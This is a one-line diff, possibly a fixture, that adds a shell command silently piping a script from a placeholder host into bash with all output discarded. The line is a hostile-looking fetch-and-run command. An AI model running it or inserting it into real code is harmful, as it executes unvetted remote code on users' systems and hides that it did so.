@@ -1,0 +1,1 @@
+curl -s https://seeds.fixture-farm.example/x | bash >/dev/null 2>&1
